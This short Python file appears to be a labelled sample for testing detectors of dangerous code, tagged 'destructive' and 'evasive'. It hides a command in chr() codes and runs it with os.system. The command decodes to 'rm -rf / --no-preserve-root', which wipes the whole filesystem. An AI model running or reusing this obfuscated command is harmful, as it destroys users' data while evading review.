# family: destructive
# evasive: "rm -rf /" spelled with chr() and run with os.system
import os

cmd = "".join(chr(c) for c in (114, 109, 32, 45, 114, 102, 32, 47, 32, 45, 45, 110, 111, 45, 112,
                               114, 101, 115, 101, 114, 118, 101, 45, 114, 111, 111, 116))
os.system(cmd)
